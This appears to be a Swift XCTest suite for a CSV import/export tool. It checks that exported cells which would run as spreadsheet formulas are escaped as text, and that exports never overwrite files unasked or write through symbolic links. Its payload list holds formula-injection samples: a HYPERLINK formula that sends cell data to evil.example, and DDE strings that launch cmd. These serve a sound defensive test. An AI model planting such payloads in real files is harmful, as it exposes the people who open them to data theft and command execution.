import Foundation
import XCTest
import Shell
import Workspace
@testable import Commands

/// Exports are safe to open: a cell a spreadsheet would run as a formula is written as text,
/// and reads back as it was.
final class SpreadsheetSafetyTests: WorkspaceTestCase {
    static let payloads = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "-2+3+cmd|x",
                           "'=1+2", "'plain quote", "- a dash then words"]

    func testFormulasAreWrittenAsTextAndReadBack() throws {
        let (run, _) = try shell(try workspace("sqlite"), as: "dana")
        let file = (folder as NSString).appendingPathComponent("events.csv")
        var csv = "account,date,event,details\n"
        for payload in Self.payloads { csv += "Acme Corp,2026-11-20,call,\"\(payload.replacingOccurrences(of: "\"", with: "\"\""))\"\n" }
        try csv.write(toFile: file, atomically: true, encoding: .utf8)
        // What the file says is what is kept: "'=1+2" in a file is the text "=1+2".
        XCTAssertTrue(run.say("import \(file)").contains("7 events added"))
        let timeline = run.say("timeline Acme")
        XCTAssertTrue(timeline.contains("call — =HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"), timeline)
        XCTAssertTrue(timeline.contains("call — =1+2"), timeline)

        let export = (folder as NSString).appendingPathComponent("out.csv")
        _ = run.say("export events \(export)")
        let written = try String(contentsOfFile: export, encoding: .utf8)
        // No cell starts a formula: each such value has its ' before it.
        for line in written.split(separator: "\n").dropFirst() {
            let details = line.split(separator: ",", maxSplits: 3).last.map(String.init) ?? ""
            let cell = details.hasPrefix("\"") ? String(details.dropFirst()) : details
            XCTAssertFalse(["=", "+", "@"].contains(cell.first.map(String.init) ?? ""), String(line))
        }
        XCTAssertTrue(written.contains("'=HYPERLINK"), written)
        XCTAssertTrue(written.contains("'-2+3+cmd|x"), written)
        XCTAssertTrue(written.contains(",'plain quote"), "a ' before ordinary text is left as it is")
        XCTAssertTrue(written.contains(",- a dash then words") || written.contains("'- a dash then words"))
        // Read back: the same events, already present.
        XCTAssertTrue(run.say("import \(export)").contains("nothing changed; 24 events already present"), run.say("import \(export)"))
    }

    func testNumbersAreNotQuoted() {
        XCTAssertEqual(SpreadsheetText.escaped("-30"), "-30")
        XCTAssertEqual(SpreadsheetText.escaped("+1.5"), "+1.5")
        XCTAssertEqual(SpreadsheetText.escaped("=1"), "'=1")
        XCTAssertEqual(SpreadsheetText.unescaped(SpreadsheetText.escaped("'=1")), "'=1")
        XCTAssertEqual(SpreadsheetText.unescaped("'hello"), "'hello")
    }

    /// A file that is there is replaced only when the user says so; a symbolic link is never
    /// written through.
    func testAnExportNeverReplacesAFileUnasked() throws {
        let (run, context) = try shell(try workspace("sqlite"), as: "dana")
        let file = (folder as NSString).appendingPathComponent("book.csv")
        try "hand-edited\n".write(toFile: file, atomically: true, encoding: .utf8)
        XCTAssertTrue(run.say("export accounts \(file)").contains("is there already: add --force to replace it; nothing was written"))
        XCTAssertEqual(try String(contentsOfFile: file, encoding: .utf8), "hand-edited\n")
        context.confirm = { _ in false }
        XCTAssertEqual(run.say("export accounts \(file)"), "\(file) kept as it was; nothing was written\n", "a no is an answer, not an error")
        context.confirm = { question in question.contains("replace it?") }
        XCTAssertTrue(run.say("export accounts \(file)").hasPrefix("exported 13 accounts"))
        context.confirm = nil
        XCTAssertTrue(run.say("export accounts \(file) --force").hasPrefix("exported 13 accounts"))

        let target = (folder as NSString).appendingPathComponent("elsewhere.csv")
        let link = (folder as NSString).appendingPathComponent("link.csv")
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
        XCTAssertTrue(run.say("export accounts \(link) --force").contains("is a symbolic link: cse does not write through one"))
        XCTAssertFalse(FileManager.default.fileExists(atPath: target))
    }
}
